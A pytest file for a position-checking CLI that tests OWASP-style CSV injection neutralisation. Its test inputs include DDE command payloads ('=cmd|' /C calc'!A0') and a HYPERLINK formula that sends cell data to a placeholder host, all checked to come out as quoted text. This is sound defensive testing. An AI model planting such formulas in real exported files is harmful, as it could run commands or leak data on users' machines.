"""CSV output a spreadsheet will not run (OWASP's CSV injection rule): a cell starting with
``=``, ``+``, ``-`` (when not a number), ``@``, a tab or a carriage return is written with
a leading ``'``. The ids come from a position file typed so, or from a broker account."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from alvh_cli.output.common import neutralise

ROOT = Path(__file__).parents[1]
SAMPLE = ROOT / "sample_positions" / "calm.toml"
BROKERS = ROOT / "tests" / "fixtures" / "brokers"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-2.5", "-2.5"),
        ("+20", "+20"),
        ("-", "'-"),
        ("dec-calm", "dec-calm"),
        (-2.5, -2.5),
        (3, 3),
    ],
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_typed_formula_id_is_text_in_check_and_review_csv(tmp_path, alvh, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"ok")'
    path = tmp_path / "calm.toml"
    path.write_text(SAMPLE.read_text().replace('id = "dec-calm"', f"id = '{formula}'"))
    before = path.read_bytes()
    for args in (["check", path], ["review", path, "--no-journal"]):
        run = alvh([*args, "--format", "csv"])
        assert run.code in (0, 1), run.err
        ids = {r.get("id") or r.get("position") for r in _rows(run.out)}
        assert "'" + formula in ids and formula not in ids, args
        assert not [line for line in run.out.splitlines() if line.startswith(("=", '"='))]
    assert path.read_bytes() == before


def test_a_formula_account_from_a_broker_is_text_in_check_csv(tmp_path, alvh, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    account = "=cmd|' /C calc'!A0"
    export = tmp_path / "export.csv"
    export.write_text((BROKERS / "generic_osi.csv").read_text().replace("IRA,", f'"{account}",'))
    book = tmp_path / "book.toml"
    assert alvh(["import", export, "-o", book]).code in (0, 1)
    market = BROKERS / "market.toml"
    run = alvh(["check", book, "--market", market, "--format", "csv"])
    assert run.code in (0, 1), run.err
    ids = [r.get("id") or r.get("position") for r in _rows(run.out)]
    assert ids and all(i.startswith("'" + account) for i in ids)
